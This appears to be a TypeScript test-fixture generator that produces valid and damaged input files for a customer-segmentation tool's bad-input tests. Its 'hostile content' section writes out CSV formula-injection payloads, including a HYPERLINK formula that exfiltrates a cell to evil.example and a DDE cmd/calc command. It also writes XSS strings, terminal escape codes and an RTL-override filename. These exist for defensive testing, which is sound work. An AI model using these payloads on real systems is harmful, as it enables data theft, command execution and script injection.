/**
 * Inputs of the bad-input catalogue (test/bad-input/cases.ts), made in a temp folder before the cases
 * run: small valid transactions to damage, broken encodings, binaries, gzip, Parquet, JSON, notebooks,
 * parameter files and models. Everything is generated here (no binary files in the repository), so each
 * damage is visible in one line of code.
 */
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import pl from 'nodejs-polars';
import { cleanTransactions } from '../../src/clean';
import { fitKMeans } from '../../src/cluster';
import { setWarningSink } from '../../src/errors';
import { buildFeatures } from '../../src/features';
import { readTransactions } from '../../src/io';
import { createModel, profileSegments, saveModel } from '../../src/profile';
import { mulberry32 } from '../../src/random';
import { rfm } from '../../src/rfm';
import { ROOT } from '../helpers/shared';

export const HEADER = 'customer_id,invoice,date,quantity,price,product,description,country';

/** One line of a transactions CSV (fields as given; quote them yourself when they need it). */
export function line(customer: string, invoice: string, date: string, quantity: string | number, price: string | number, product = 'P1', description = 'Mug', country = 'UK'): string {
  return [customer, invoice, date, quantity, price, product, description, country].join(',');
}

/**
 * A valid transactions CSV: `customers` customers (c01, c02, …), each with 1..4 invoices in 2011 and
 * 1..3 lines per invoice, deterministic. `patch(lines)` may change the data lines (0-based, header not
 * included) before they are joined.
 */
export function goodCsv(customers = 12, patch?: (lines: string[]) => string[], seed = 7): string {
  const rand = mulberry32(seed);
  const out: string[] = [];
  let inv = 1000;
  for (let c = 1; c <= customers; c++) {
    const id = `c${String(c).padStart(2, '0')}`;
    const invoices = 1 + Math.floor(rand() * 4);
    for (let i = 0; i < invoices; i++) {
      inv++;
      const month = 1 + Math.floor(rand() * 11);
      const day = 1 + Math.floor(rand() * 27);
      const date = `2011-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')} ${String(8 + Math.floor(rand() * 10)).padStart(2, '0')}:15:00`;
      const n = 1 + Math.floor(rand() * 3);
      for (let j = 0; j < n; j++) {
        const q = 1 + Math.floor(rand() * 6);
        const p = (1 + Math.floor(rand() * 2000) / 100).toFixed(2);
        out.push(line(id, String(inv), date, q, p, `P${1 + Math.floor(rand() * 9)}`, ['Mug', 'Teapot', 'Cup', 'Plate'][Math.floor(rand() * 4)], ['UK', 'France', 'Germany'][Math.floor(rand() * 3)]));
      }
    }
  }
  return [HEADER, ...(patch ? patch(out) : out)].join('\n') + '\n';
}

/** Replace data line `i` (0-based) of a CSV made by goodCsv. */
export const setLine = (i: number, text: string) => (ls: string[]): string[] => ls.map((l, j) => (j === i ? text : l));
/** Replace one field (0-based) on data line `i`. */
export const setField = (i: number, field: number, value: string) => (ls: string[]): string[] =>
  ls.map((l, j) => (j === i ? l.split(',').map((f, k) => (k === field ? value : f)).join(',') : l));
/** Replace one field on every data line. */
export const setFieldAll = (field: number, value: (i: number) => string) => (ls: string[]): string[] => ls.map((l, j) => l.split(',').map((f, k) => (k === field ? value(j) : f)).join(','));

const GOOD = goodCsv();
const GOOD_LINES = GOOD.trimEnd().split('\n');

function utf16(text: string, be: boolean): Buffer {
  const le = Buffer.from('\uFEFF' + text, 'utf16le');
  if (!be) return le;
  const out = Buffer.alloc(le.length);
  for (let i = 0; i + 1 < le.length; i += 2) {
    out[i] = le[i + 1];
    out[i + 1] = le[i];
  }
  return out;
}

function randomBytes(n: number, seed: number): Buffer {
  const rand = mulberry32(seed);
  const b = Buffer.alloc(n);
  for (let i = 0; i < n; i++) b[i] = Math.floor(rand() * 256);
  return b;
}

const PNG_HEAD = Buffer.from('89504e470d0a1a0a0000000d49484452000000100000001008060000001ff3ff61', 'hex');
const ZIP_HEAD = Buffer.from('504b0304140000000800', 'hex');

/** A notebook with a parameters cell (the params fixture of test/fixtures/notebooks). */
const PARAMS_NB = path.join(ROOT, 'test', 'fixtures', 'notebooks', 'params.ipynb');

function notebook(paramsSource: string[] | null, extra: Record<string, unknown> = {}): string {
  const cells = [
    { cell_type: 'markdown', id: 'm0', metadata: {}, source: ['# fixture'] },
    ...(paramsSource ? [{ cell_type: 'code', execution_count: null, id: 'p1', metadata: { tags: ['parameters'] }, outputs: [], source: paramsSource }] : []),
    { cell_type: 'code', execution_count: null, id: 'c2', metadata: {}, outputs: [], source: ['console.log(1);'] },
  ];
  return JSON.stringify({ cells, metadata: { kernelspec: { name: 'tslab', display_name: 'TypeScript', language: 'typescript' } }, nbformat: 4, nbformat_minor: 5, ...extra }, null, 1);
}

/** Every fixture: name → contents. Cases refer to them by name (test/bad-input/cases.ts). */
export function fixtureContents(): Record<string, string | Buffer> {
  const f: Record<string, string | Buffer> = {};

  // ── valid baselines ──
  f['good.csv'] = GOOD;
  f['good3.csv'] = goodCsv(3);
  f['one_customer.csv'] = goodCsv(1);
  f['two_customers.csv'] = goodCsv(2);
  f['good60.csv'] = goodCsv(60, undefined, 11);
  f['good.tsv'] = GOOD.replace(/,/g, '\t');
  f['good_semicolon_comma.csv'] = GOOD_LINES.map((l) => l.split(',').map((v) => v.replace(/^(\d+)\.(\d+)$/, '$1,$2')).join(';')).join('\n') + '\n';

  // ── files: encodings, binary, truncation, compression, BOMs, huge lines ──
  f['empty.csv'] = '';
  f['blank_lines.csv'] = '\n\n   \n\n';
  f['header_only.csv'] = HEADER + '\n';
  f['header_only_nonl.csv'] = HEADER;
  f['bom_utf8.csv'] = '\uFEFF' + GOOD;
  f['bom_utf8_quoted_header.csv'] = '\uFEFF' + GOOD.replace(HEADER, HEADER.split(',').map((h) => `"${h}"`).join(','));
  f['double_bom.csv'] = '\uFEFF\uFEFF' + GOOD;
  f['utf16le.csv'] = utf16(GOOD, false);
  f['utf16be.csv'] = utf16(GOOD, true);
  f['utf16le_nobom.csv'] = Buffer.from(GOOD, 'utf16le');
  f['utf32le.csv'] = Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), ...[...GOOD].map((ch) => { const b = Buffer.alloc(4); b.writeUInt32LE(ch.codePointAt(0)!); return b; })]);
  f['latin1_description.csv'] = Buffer.from(goodCsv(12, setField(3, 6, 'Caf\u00e9 cr\u00e8me')), 'latin1');
  f['latin1_customer.csv'] = Buffer.from(goodCsv(12, setFieldAll(0, (i) => `K\u00f6ln-${i % 5}`)), 'latin1');
  f['nul_bytes.csv'] = Buffer.concat([Buffer.from(GOOD_LINES.slice(0, 6).join('\n') + '\n'), Buffer.from([0, 0, 0, 0]), Buffer.from(GOOD_LINES.slice(6).join('\n') + '\n')]);
  f['random.csv'] = randomBytes(4096, 1);
  f['png.csv'] = Buffer.concat([PNG_HEAD, randomBytes(2000, 2)]);
  f['zip.csv'] = Buffer.concat([ZIP_HEAD, Buffer.from('tx.csv'), randomBytes(1500, 3)]);
  f['elf.csv'] = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(3000, 4)]);
  f['pdf.csv'] = Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n', 'latin1'), randomBytes(2000, 5)]);
  f['gzip_named.csv'] = gzipSync(GOOD);
  f['good.csv.gz'] = gzipSync(GOOD);
  f['truncated.csv.gz'] = gzipSync(goodCsv(200)).subarray(0, 600);
  f['not_gzip.csv.gz'] = GOOD;
  f['double.csv.gz'] = gzipSync(gzipSync(GOOD));
  f['garbage_inside.csv.gz'] = gzipSync(randomBytes(3000, 6));
  f['nul_bomb.csv.gz'] = gzipSync(Buffer.alloc(8 << 20));
  f['truncated_midline.csv'] = GOOD_LINES.slice(0, -1).join('\n') + '\n' + GOOD_LINES[GOOD_LINES.length - 1].split(',').slice(0, 2).join(',') + ',2011-';
  f['truncated_midquote.csv'] = GOOD_LINES.slice(0, 8).join('\n') + '\n' + line('c99', '9999', '2011-05-05 10:00:00', 1, '2.00', 'P1', '"Unfinished desc') + '\n' + GOOD_LINES.slice(8, 12).join('\n') + '\n';
  f['crlf.csv'] = GOOD.replace(/\n/g, '\r\n');
  f['cr_only.csv'] = GOOD.replace(/\n/g, '\r');
  f['mixed_eol.csv'] = GOOD_LINES.map((l, i) => l + (i % 2 ? '\r\n' : '\n')).join('');
  f['no_final_newline.csv'] = GOOD.trimEnd();
  f['huge_field.csv'] = goodCsv(12, setField(4, 6, '"' + 'x'.repeat(2 << 20) + '"'));
  f['huge_line_no_newline.csv'] = 'a'.repeat(3 << 20);
  f['huge_header.csv'] = [HEADER + ',' + Array.from({ length: 30000 }, (_, i) => `extra_column_${i}`).join(','), ...GOOD_LINES.slice(1).map((l) => l + ','.repeat(30000))].join('\n') + '\n';
  f['long_lines_many_cols.csv'] = [HEADER + ',' + Array.from({ length: 2000 }, (_, i) => `x${i}`).join(','), ...GOOD_LINES.slice(1).map((l) => l + ',1'.repeat(2000))].join('\n') + '\n';
  f['csv_named.parquet'] = GOOD;
  f['trailing_garbage.csv'] = Buffer.concat([Buffer.from(GOOD), randomBytes(800, 7)]);

  // JSON / NDJSON
  const records = GOOD_LINES.slice(1).map((l) => {
    const [customer_id, invoice, date, quantity, price, product, description, country] = l.split(',');
    return { customer_id, invoice, date, quantity: Number(quantity), price: Number(price), product, description, country };
  });
  f['good.json'] = JSON.stringify(records);
  f['good.ndjson'] = records.map((r) => JSON.stringify(r)).join('\n') + '\n';
  f['truncated.json'] = JSON.stringify(records).slice(0, 700);
  const many = Array.from({ length: 60 }, (_, i) => records[i % records.length]);
  f['broken_line50.ndjson'] = many.map((r, i) => (i === 49 ? JSON.stringify(r).replace('"invoice"', 'invoice') : JSON.stringify(r))).join('\n') + '\n';
  f['object.json'] = JSON.stringify({ data: records });
  f['numbers.json'] = '[1,2,3]';
  f['empty_array.json'] = '[]';
  f['not_json.json'] = GOOD;
  f['ndjson_blank_lines.ndjson'] = records.map((r) => JSON.stringify(r)).join('\n\n') + '\n\n';
  f['json_nested.json'] = JSON.stringify(records.map((r, i) => (i === 3 ? { ...r, quantity: { value: 2 } } : r)));
  f['json_mixed_keys.json'] = JSON.stringify(records.map((r, i) => (i % 2 ? r : { ...r, customer_id: undefined, CustomerID: r.customer_id })));
  f['json_string_qty.json'] = JSON.stringify(records.map((r, i) => (i === 5 ? { ...r, quantity: 'five' } : r)));

  // ── schemas ──
  const drop = (col: string): string =>
    GOOD_LINES.map((l) => {
      const idx = HEADER.split(',').indexOf(col);
      return l.split(',').filter((_, k) => k !== idx).join(',');
    }).join('\n') + '\n';
  f['no_customer.csv'] = drop('customer_id');
  f['no_date.csv'] = drop('date');
  f['no_price.csv'] = drop('price');
  f['misnamed.csv'] = GOOD.replace('customer_id', 'custmer_id');
  f['dup_quantity.csv'] = GOOD_LINES.map((l, i) => (i === 0 ? l.replace(',price', ',quantity,price') : l.replace(/^([^,]*,[^,]*,[^,]*,[^,]*),/, '$1,99,'))).join('\n') + '\n';
  f['dup_customer.csv'] = GOOD_LINES.map((l, i) => (i === 0 ? l + ',customer_id' : l + ',zz')).join('\n') + '\n';
  f['empty_header_names.csv'] = GOOD.replace('product,description', ',description');
  f['blank_header.csv'] = GOOD.replace(HEADER, ',,,,,,,');
  f['headerless.csv'] = GOOD_LINES.slice(1).join('\n') + '\n';
  f['headerless4.csv'] = GOOD_LINES.slice(1).map((l) => l.split(',').slice(0, 4).join(',')).join('\n') + '\n';
  f['one_column.csv'] = GOOD_LINES.map((l) => l.split(',')[0]).join('\n') + '\n';
  f['padded_header.csv'] = GOOD.replace(HEADER, HEADER.split(',').map((h) => ` ${h} `).join(','));
  f['upper_header.csv'] = GOOD.replace(HEADER, HEADER.toUpperCase());
  f['html_header.csv'] = GOOD.replace('customer_id', '<script>alert(1)</script>');

  // ── values ──
  f['text_qty.csv'] = goodCsv(12, setField(1, 3, 'two'));
  f['text_price.csv'] = goodCsv(12, setField(6, 4, 'abc'));
  f['nan_price.csv'] = goodCsv(12, setField(2, 4, 'NaN'));
  f['inf_qty.csv'] = goodCsv(12, setField(2, 3, 'inf'));
  f['neg_inf_price.csv'] = goodCsv(12, setField(2, 4, '-Infinity'));
  f['huge_price.csv'] = goodCsv(12, setField(2, 4, '1e308'));
  f['overflow_price.csv'] = goodCsv(12, setField(2, 4, '1e400'));
  f['big_qty.csv'] = goodCsv(12, setField(2, 3, '1e15'));
  f['currency_price.csv'] = goodCsv(12, setField(3, 4, '£2.50'));
  f['percent_qty.csv'] = goodCsv(12, setField(3, 3, '10%'));
  f['thousands_quoted.csv'] = goodCsv(12, setField(3, 4, '"1,234.50"'));
  f['empty_qty.csv'] = goodCsv(12, setField(3, 3, ''));
  f['negative_all.csv'] = goodCsv(12, setFieldAll(3, () => '-1'));
  f['zero_price_all.csv'] = goodCsv(12, setFieldAll(4, () => '0'));
  f['missing_ids_all.csv'] = goodCsv(12, setFieldAll(0, (i) => ['', 'NULL', 'nan', 'N/A'][i % 4]));
  f['float_ids.csv'] = goodCsv(12, setFieldAll(0, (i) => `${17850 + (i % 12)}.0`));
  f['long_id.csv'] = goodCsv(12, setField(0, 0, 'L'.repeat(10000)));
  f['blank_id_spaces.csv'] = goodCsv(12, setField(0, 0, '   '));
  f['empty_date.csv'] = goodCsv(12, setField(4, 2, ''));
  f['feb30.csv'] = goodCsv(12, setField(3, 2, '2011-02-30 09:00:00'));
  f['month13.csv'] = goodCsv(12, setField(3, 2, '2011-13-01 09:00:00'));
  f['month0.csv'] = goodCsv(12, setField(3, 2, '2011-00-10 09:00:00'));
  f['bad_time.csv'] = goodCsv(12, setField(3, 2, '2011-03-10 24:61:00'));
  f['year2099.csv'] = goodCsv(12, setField(3, 2, '2099-06-01 09:00:00'));
  f['year1850.csv'] = goodCsv(12, setField(3, 2, '1850-06-01 09:00:00'));
  f['year0.csv'] = goodCsv(12, setField(3, 2, '0000-06-01 09:00:00'));
  f['excel_serial.csv'] = goodCsv(12, setFieldAll(2, (i) => String(40544 + i)));
  f['unix_ts.csv'] = goodCsv(12, setFieldAll(2, (i) => String(1294000000 + i * 86400)));
  f['mixed_layouts.csv'] = goodCsv(12, setField(5, 2, '15/03/2011 10:00'));
  f['ambiguous_slash.csv'] = goodCsv(12, setFieldAll(2, (i) => `0${1 + (i % 9)}/0${1 + ((i * 7) % 9)}/2011 10:00`));
  f['inconsistent_slash.csv'] = goodCsv(12, setFieldAll(2, (i) => (i === 0 ? '25/03/2011 10:00' : i === 1 ? '03/25/2011 10:00' : `0${1 + (i % 9)}/0${1 + ((i * 7) % 9)}/2011 10:00`)));
  f['tz_mixed.csv'] = goodCsv(12, setFieldAll(2, (i) => (i % 2 ? `2011-03-${String(1 + (i % 27)).padStart(2, '0')}T10:00:00Z` : `2011-03-${String(1 + (i % 27)).padStart(2, '0')} 10:00:00`)));
  f['decimal_mixed.csv'] = GOOD_LINES.map((l, i) => (i === 0 ? l.replace(/,/g, ';') : l.replace(/,/g, ';').replace(/;(\d+)\.(\d\d);/, i % 2 ? ';$1,$2;' : ';$1.$2;'))).join('\n') + '\n';
  f['quoted_newline.csv'] = goodCsv(12, setField(2, 6, '"He said ""hi"",\nthen left"'));
  f['quoted_newline_then_error.csv'] = goodCsv(12, (ls) => setField(9, 3, 'seven')(setField(2, 6, '"line one\nline two\nline three"')(ls)));
  f['ragged.csv'] = goodCsv(12, setLine(2, GOOD_LINES[3] + ',oops'));
  f['short_row.csv'] = goodCsv(12, setLine(2, GOOD_LINES[3].split(',').slice(0, 4).join(',')));
  f['unterminated_quote.csv'] = goodCsv(12, setField(5, 6, '"never closed'));
  f['all_same.csv'] = Array.from({ length: 40 }, (_, i) => (i === 0 ? HEADER : line(`c${i}`, String(5000 + i), '2011-05-05 10:00:00', 1, '2.00'))).join('\n') + '\n';
  f['dates_only_future.csv'] = goodCsv(12, setFieldAll(2, (i) => `2099-0${1 + (i % 9)}-10 10:00:00`));

  // ── hostile content ──
  const FORMULAS = ['=1+2', '@SUM(1+1)', '+41791234567', '-2+3', '=HYPERLINK("http://evil.example/?x="&A1;"click")', '\tTAB', '=cmd|\' /C calc\'!A0'];
  f['formulas.csv'] = goodCsv(12, setFieldAll(0, (i) => {
    const v = FORMULAS[i % FORMULAS.length];
    return /[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
  }));
  f['formula_products.csv'] = goodCsv(12, setFieldAll(6, (i) => (i % 2 ? '"=HYPERLINK(""http://evil.example"",""x"")"' : '@SUM(A1:A9)')));
  f['html_content.csv'] = goodCsv(12, (ls) => setFieldAll(7, (i) => (i % 2 ? '<script>alert("x")</script>' : '<img src=x onerror=alert(1)>'))(setFieldAll(6, () => '</table><h1>pwned</h1>')(ls)));
  f['html_ids.csv'] = goodCsv(12, setFieldAll(0, (i) => `<b>c${i % 12}</b><script>alert(${i % 12})</script>`));
  f['control_chars.csv'] = goodCsv(12, setFieldAll(7, (i) => (i % 2 ? '\u001b[31mRED\u001b[0m' : 'bell\u0007land')));
  f['control_in_number.csv'] = goodCsv(12, setField(3, 3, '\u001b]0;pwned\u0007\u001b[2J'));
  f['huge_bad_number.csv'] = goodCsv(12, setField(3, 3, 'z'.repeat(200000)));
  f['rtl_override.csv'] = goodCsv(12, setFieldAll(0, (i) => `c${i % 12}\u202Egnp.exe`));

  // Parquet made by Polars (written in makeFixtures, needs a path)
  // ── notebooks and parameter files ──
  f['params.ipynb'] = readFileSync(PARAMS_NB, 'utf8');
  f['not_json.ipynb'] = 'this is not a notebook {';
  f['no_cells.ipynb'] = JSON.stringify({ metadata: {}, nbformat: 4, nbformat_minor: 5 });
  f['cells_not_array.ipynb'] = JSON.stringify({ cells: { a: 1 }, metadata: {}, nbformat: 4, nbformat_minor: 5 });
  f['no_params.ipynb'] = notebook(null);
  f['bad_params_syntax.ipynb'] = notebook(['let k: number = ;\n', 'const = 5;']);
  f['truncated.ipynb'] = f['params.ipynb'].toString().slice(0, 500);
  f['nbformat3.ipynb'] = JSON.stringify({ worksheets: [{ cells: [] }], metadata: {}, nbformat: 3, nbformat_minor: 0 });
  f['params_bad.yaml'] = 'k: [1, 2\nname: "unclosed\n';
  f['params_list.json'] = '[1, 2, 3]';
  f['params_unknown.json'] = JSON.stringify({ k: 3, nosuchparam: 1 });
  f['params_wrongtype.json'] = JSON.stringify({ k: 'many' });
  f['params_truncated.json'] = '{"k": 3, "input": "../da';
  f['params_binary.yaml'] = randomBytes(500, 8);
  f['batch_bad_line3.jsonl'] = '{"k": 3}\n{"k": 4}\n{"k": 5,,}\n{"k": 6}\n';
  f['batch_not_object.jsonl'] = '{"k": 3}\n[4]\n';

  // ── models ──
  f['not_json_model.json'] = 'model: yes';
  f['empty_model.json'] = '{}';
  f['array_model.json'] = '[]';
  f['wrong_format_model.json'] = JSON.stringify({ format: 'something-else', formatVersion: 1 });
  f['customers_no_recency.csv'] = 'customer_id,frequency,monetary\na,2,30\nb,5,100\n';
  f['customers_text_recency.csv'] = 'customer_id,recency,frequency,monetary\na,10,2,30\nb,ten,5,100\n';
  f['customers_nan.csv'] = 'customer_id,recency,frequency,monetary\na,10,2,30\nb,12,5,NaN\n';

  // ── rules ──
  f['rules_not_json.json'] = '{ "rules": [ { "name": "A", ';
  f['rules_wrong_shape.json'] = JSON.stringify({ rules: 'all' });
  f['rules_bad_range.json'] = JSON.stringify([{ segment: 'X', r: [9, 2], f: [1, 5], m: [1, 5] }]);
  return f;
}

/** A valid segment model fitted on good60.csv, and damaged copies of it. */
async function makeModels(dir: string): Promise<void> {
  const prev = setWarningSink(() => undefined);
  try {
    const tx = await readTransactions(path.join(dir, 'good60.csv'));
    const r = rfm(cleanTransactions(tx).clean);
    const X = buildFeatures(r);
    const fit = fitKMeans(X, { k: 3, seed: 1, nInit: 2 });
    const model = createModel({ rfm: r, features: X, kmeans: fit, profiles: profileSegments(r, fit, { features: X }), createdAt: '2025-01-01T00:00:00Z' });
    const file = path.join(dir, 'model.json');
    await saveModel(model, file);
    const text = readFileSync(file, 'utf8');
    const json = JSON.parse(text) as Record<string, unknown> & { formatVersion: number; clusters: Array<Record<string, unknown>>; kmeans: { centroids: number[][] } & Record<string, unknown> };
    writeFileSync(path.join(dir, 'truncated_model.json'), text.slice(0, Math.floor(text.length / 2)));
    writeFileSync(path.join(dir, 'future_model.json'), JSON.stringify({ ...json, formatVersion: json.formatVersion + 5, segkitVersion: '99.0.0' }));
    writeFileSync(path.join(dir, 'no_clusters_model.json'), JSON.stringify({ ...json, clusters: [] }));
    const centroids = (c: unknown[][]): string => JSON.stringify({ ...json, kmeans: { ...json.kmeans, centroids: c } });
    writeFileSync(path.join(dir, 'bad_centroid_model.json'), centroids(json.kmeans.centroids.map((c, i) => (i === 0 ? [1] : c))));
    writeFileSync(path.join(dir, 'string_centroid_model.json'), centroids(json.kmeans.centroids.map((c, i) => (i === 0 ? c.map(() => 'NaN') : c))));
    writeFileSync(path.join(dir, 'html_model.json'), JSON.stringify({ ...json, clusters: json.clusters.map((c) => ({ ...c, name: '<script>alert(1)</script>' })) }));
  } finally {
    setWarningSink(prev);
  }
}

/** Write every fixture into `dir` (plus Parquet files made by Polars and models); returns the folder. */
export async function makeFixtures(dir: string): Promise<string> {
  mkdirSync(dir, { recursive: true });
  for (const [name, content] of Object.entries(fixtureContents())) writeFileSync(path.join(dir, name), content);
  const df = pl.readCSV(GOOD, { inferSchemaLength: 0 });
  const typed = df.withColumns(pl.col('quantity').cast(pl.Float64), pl.col('price').cast(pl.Float64));
  typed.writeParquet(path.join(dir, 'good.parquet'));
  typed.withColumns(pl.lit(20110101).alias('date')).writeParquet(path.join(dir, 'int_date.parquet'));
  df.withColumns(pl.when(pl.col('invoice').eq(pl.lit(df.getColumn('invoice').get(3)))).then(pl.lit('lots')).otherwise(pl.col('quantity')).alias('quantity')).writeParquet(path.join(dir, 'string_qty.parquet'));
  typed.withColumns(pl.col('customer_id').str.slice(1).cast(pl.Float64).alias('customer_id')).writeParquet(path.join(dir, 'float_ids.parquet'));
  const pq = readFileSync(path.join(dir, 'good.parquet'));
  writeFileSync(path.join(dir, 'truncated.parquet'), pq.subarray(0, Math.floor(pq.length / 2)));
  writeFileSync(path.join(dir, 'parquet_named.csv'), pq);
  writeFileSync(path.join(dir, 'parquet_magic_only.parquet'), Buffer.concat([Buffer.from('PAR1'), randomBytes(400, 9), Buffer.from('PAR1')]));
  copyFileSync(path.join(dir, 'good.csv'), path.join(dir, 'good.dat'));
  copyFileSync(path.join(dir, 'good.csv'), path.join(dir, 'good.xlsx'));
  copyFileSync(path.join(dir, 'good.csv'), path.join(dir, 'noext'));
  await makeModels(dir);
  return dir;
}
